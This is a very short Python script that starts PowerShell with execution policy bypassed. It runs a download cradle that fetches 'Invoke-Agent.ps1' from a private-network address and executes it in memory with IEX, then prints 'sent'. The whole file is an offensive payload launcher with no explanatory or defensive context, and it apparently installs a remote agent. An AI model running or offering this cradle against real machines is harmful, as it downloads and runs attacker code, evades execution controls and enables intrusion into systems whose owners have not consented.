import subprocess

cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.10.14.5/Invoke-Agent.ps1')"
subprocess.run(["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", cradle])
print("sent")
